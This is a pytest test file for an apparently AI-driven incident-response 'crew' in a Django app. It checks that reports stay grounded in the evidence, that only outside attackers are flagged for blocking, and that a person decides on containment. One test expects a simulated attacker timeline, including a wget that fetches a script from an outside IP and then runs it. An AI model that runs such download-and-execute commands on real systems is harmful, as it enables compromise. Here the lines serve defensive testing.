"""Whatever the alert: the crew names nobody, no number and no time that is not in alert, evidence or ledger."""

import io
import json
import re
from typing import Any

import pytest
from django.conf import settings
from django.core.serializers.json import DjangoJSONEncoder

from agents_app.models import Approval, BlockedIndicator, ToolCall
from sessions_app import actors, indicators
from sessions_app.models import Event
from sessions_app.services import evidence
from tests.agents_app.crew_alerts import (
    BARE,
    BRUTE_FORCE,
    DISK_FULL,
    GOT_IN,
    MALWARE,
    OWN_SCANNER,
    SERVICE_DOWN,
    STORIES,
    Story,
)
from tests.agents_app.crew_room import CrewRoom

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.once]

NUMBER = re.compile(r"\d+")
CLOCK = re.compile(r"\b\d\d:\d\d:\d\d\b")
# Numbers of ours: rounds, the hash's name, and the days of the month that a time of ours is written with.
OURS = {"1", "2", "3", "256"}


def known(room: CrewRoom, story: Story) -> str:
    """All that the crew may know of: the alert, its evidence, the rows, and the ledger."""
    of_room = {"session_id": room.incident.room_id}
    rows = [
        *room.incident.alerts.values(),
        *room.incident.indicators.values(),
        *room.incident.evidence.values(),
        *ToolCall.objects.filter(run__session_id=room.incident.room_id).values(),
        *Approval.objects.filter(incident=room.incident).values(),
        *BlockedIndicator.objects.filter(incident=room.incident).values(),
        *Event.objects.filter(**of_room).exclude(type__startswith="message.").values("ts"),
    ]
    told = json.dumps(rows, cls=DjangoJSONEncoder, ensure_ascii=False)
    # Times of rows are cut to the second in a report, and moved to UTC.
    moments = " ".join(str(value) for row in rows for value in row.values() if hasattr(value, "tzinfo"))
    opened = str(room.incident.opened_at)
    return (
        f"{told} {moments} {opened} {json.dumps(story.alert, ensure_ascii=False)} {story.log} {room.approver.username}"
    )


def texts(room: CrewRoom) -> list[str]:
    rounds = room.incident.round_summaries.all()
    said = [each.content for each in room.messages()]
    found = [f"{each.summary} {json.dumps(each.findings, ensure_ascii=False)} {each.suggestions}" for each in rounds]
    return [*said, *found, room.report]


@pytest.mark.parametrize("story", STORIES, ids=lambda story: story.name)
def test_every_name_number_and_time_is_in_the_alert_its_evidence_or_the_ledger(story: Story) -> None:
    room = CrewRoom.open(story.alert, log=story.log, source=story.source)
    assert room.work_to_the_end().status == "succeeded"
    room.incident.refresh_from_db()
    corpus = known(room, story)
    numbers = {*NUMBER.findall(corpus), *OURS}
    numbers |= {number.lstrip("0") for number in numbers}
    for text in texts(room):
        assert {number for number in NUMBER.findall(text) if number not in numbers} == set(), text
        assert {time for time in CLOCK.findall(text) if time not in corpus} == set(), text
        named = {each.value for each in indicators.extract(text) if each.kind not in ("file", "process")}
        assert {value for value in named if value.lower() not in corpus.lower()} == set(), text


def test_different_alerts_get_different_reports() -> None:
    seen = {}
    for story in (BRUTE_FORCE, SERVICE_DOWN, DISK_FULL, BARE):
        room = CrewRoom.open(story.alert, log=story.log, source=story.source)
        room.work_to_the_end()
        seen[story.name] = room.report
        assert room.incident.title in room.report
    assert len(set(seen.values())) == len(seen)


@pytest.mark.parametrize(
    ("story", "blocked"),
    [
        (BRUTE_FORCE, ["203.0.113.77"]),
        (MALWARE, ["198.51.100.201"]),
        (SERVICE_DOWN, []),
        (DISK_FULL, []),
        (OWN_SCANNER, []),
        (BARE, []),
    ],
    ids=lambda each: getattr(each, "name", None),
)
def test_the_crew_asks_to_block_what_acts_from_outside_and_nothing_else(story: Story, blocked: list[str]) -> None:
    room = CrewRoom.open(story.alert, log=story.log, source=story.source)
    room.work_to_the_end()
    assert [call.args["indicator"] for call in room.calls("block_indicator")] == blocked
    room.incident.refresh_from_db()
    assert room.incident.status == "investigating", "whether it is contained is for a person to say"


UNRELATED = "".join(f"Oct 15 21:{n:02}:00 mail-1 smtpd[{n}]: connect from 198.51.100.{n + 1}\n" for n in range(20))
SAME_MACHINE = "".join(f"Oct 15 21:{n:02}:00 web-7 CRON[{n}]: session opened for user root\n" for n in range(20))
ONLY_SUCCESS = "Oct 15 21:07:00 web-7 sshd[9]: Accepted password for deploy from 203.0.113.77 port 41022 ssh2\n"


@pytest.mark.parametrize(
    ("log", "confidence", "words"),
    [
        ("", "low", "No log was attached: this rests on the alert alone."),
        (UNRELATED, "low", "The logs attached hold nothing of what the alert names"),
        (SAME_MACHINE, "low", "web-7 stands in 20 lines of the logs attached, but none holds 203.0.113.77"),
        (ONLY_SUCCESS, "low", "None of them speaks of failure, as the alert does: they contradict it."),
        (BRUTE_FORCE.log, "high", "203.0.113.77 stands in 42 lines of the logs attached, beside the alert."),
    ],
    ids=["no log", "unrelated", "same machine", "contradicts", "bears it out"],
)
def test_confidence_follows_from_what_was_seen_beside_the_alert(log: str, confidence: str, words: str) -> None:
    room = CrewRoom.open(BRUTE_FORCE.alert, log=log, source="wazuh")
    room.work_to_the_end()
    assert words in room.report
    assert f"Confidence: {confidence}." in room.report
    assert set(room.incident.round_summaries.values_list("confidence", flat=True)) == {confidence}
    assert ("No log was attached" in room.report) is (log == "")


def test_nobody_is_blocked_because_of_a_log_of_something_else() -> None:
    alert = {"title": "SSH brute force", "severity": "high", "host": "db-4", "user": "a.kim"}
    failing = "".join(f"Oct 15 21:{n:02}:00 mail-1 smtpd[{n}]: sign-in failed from 198.51.100.9\n" for n in range(20))
    room = CrewRoom.open(alert, log=failing)
    room.work_to_the_end()
    assert room.calls("block_indicator") == []


def test_a_log_that_comes_while_the_crew_works_is_read_before_it_ends() -> None:
    room = CrewRoom.open(BRUTE_FORCE.alert, source="wazuh")
    room.work()
    evidence.attach(
        incident=room.incident, filename="auth.log", stream=io.BytesIO(BRUTE_FORCE.log.encode()), by=actors.SYSTEM
    )
    room.work_to_the_end()
    assert "203.0.113.77 stands in 42 lines of the logs attached" in room.report


def of_the_readme() -> dict[str, Any]:
    """The alert that whoever reads the README sends first."""
    text = (settings.BASE_DIR / "README.md").read_text()
    return json.loads(text[text.index("/ingest -d '") + len("/ingest -d '") :].partition("'")[0])


def test_the_first_alert_a_newcomer_sends_is_looked_into_and_ends_in_a_question() -> None:
    room = CrewRoom.open(of_the_readme())
    room.work()
    described = [call.args["indicator"] for call in room.calls("describe_indicator")]
    assert described == ["203.0.113.200", "cdn-sync.example", "build-7", "10.20.9.31"]
    assert [approval.args["indicator"] for approval in room.pending()] == ["203.0.113.200"]
    assert "only the alert names 203.0.113.200" in room.pending()[0].args["reason"]


def test_whatever_its_words_an_alert_that_names_somebody_outside_is_looked_into() -> None:
    alert = {"title": "Gronk 17", "severity": "high", "host": "pc-9", "user": "k.sato", "remote_ip": "198.51.100.44"}
    room = CrewRoom.open(alert)
    room.work_to_the_end()
    assert [call.args["indicator"] for call in room.calls("describe_indicator")] == ["198.51.100.44", "k.sato", "pc-9"]
    assert room.calls("block_indicator") == []
    assert "The alert fits no kind this model knows" in room.report


def test_what_followed_a_sign_in_that_worked_is_told_by_its_lines() -> None:
    room = CrewRoom.open(GOT_IN.alert, log=GOT_IN.log, source="wazuh")
    room.work_to_the_end()
    (call,) = room.calls("timeline_of")
    assert (call.args["around"], call.args["about"]) == ("auth.log:15", "ops")
    second = room.incident.round_summaries.order_by("version")[1]
    for words in (
        "ops fetched something from outside at 04:13:31 (“/usr/bin/wget http://192.0.2.144/k.sh -O /tmp/k.sh”)",
        "ran /tmp/k.sh at 04:13:48",
        "added the account helper9 at 04:14:02",
        "made something start by itself at 04:14:40",
        "ran a command as root at 04:15:55 (“/bin/cat /etc/hostname”)",
    ):
        assert words in second.summary
    assert set(second.findings[0]["evidence"]) <= set(GOT_IN.log.splitlines())
    assert "Somebody got in. 198.51.100.66" in room.report
    assert "## Summary\n\nSomebody got in: 198.51.100.66 signed in as" in room.report
    lines = [line.strip() for line in room.report.splitlines()]
    searched = [line for line in lines if line.startswith("- Search the evidence for “Accepted”")]
    assert len(searched) == 1, "a task and its only action are one thing"
    (told,) = re.findall(r"by search_evidence \((.*)\)", searched[0])
    assert set(told.split(", ")) == {"query Accepted", "limit 50", "context 0"}  # PostgreSQL keeps no order of keys
    for left in ("the file /tmp/k.sh", "the account helper9", "Isolate jump-4", "traffic with 192.0.2.144"):
        assert left in room.report


def test_a_sign_in_of_ours_is_no_break_in() -> None:
    room = CrewRoom.open(BRUTE_FORCE.alert, log=BRUTE_FORCE.log + ours(), source="wazuh")
    room.work_to_the_end()
    assert room.calls("timeline_of") == []
    assert "got in" not in room.report


def ours() -> str:
    return "Oct 15 22:00:00 web-7 sshd[9]: Accepted publickey for deploy from 10.3.0.9 port 41022 ssh2\n"


def test_the_panel_and_the_crew_count_a_user_alike() -> None:
    room = CrewRoom.open(GOT_IN.alert, log=GOT_IN.log, source="wazuh")
    room.work_to_the_end()
    row = room.incident.indicators.get(kind="user", value="ops")
    (call,) = [each for each in room.calls("describe_indicator") if each.args["indicator"] == "ops"]
    assert call.result is not None
    assert (call.result["seen_count"], call.result["count"]) == (row.seen_count, row.seen_count - 1)
    first = room.incident.round_summaries.order_by("version")[0]
    assert f"with the alerts it was seen {row.seen_count} times" in first.summary


def test_the_runbook_that_applies_is_looked_up_and_named() -> None:
    room = CrewRoom.open(BRUTE_FORCE.alert, log=BRUTE_FORCE.log, source="wazuh")
    room.work_to_the_end()
    (call,) = room.calls("lookup_runbook")
    assert call.result is not None
    assert call.result["runbooks"][0]["title"] == "Password guessing and brute force"
    assert "Go through the runbook “Password guessing and brute force”." in room.report


def test_the_first_summary_counts_what_the_log_holds() -> None:
    room = CrewRoom.open(BRUTE_FORCE.alert, log=BRUTE_FORCE.log, source="wazuh")
    room.work_to_the_end()
    first = room.incident.round_summaries.order_by("version")[0]
    lines = BRUTE_FORCE.log.splitlines()
    assert f"hold {len(lines)} lines" in first.summary
    assert f"203.0.113.77 with {sum('203.0.113.77' in line for line in lines)} lines" in first.summary
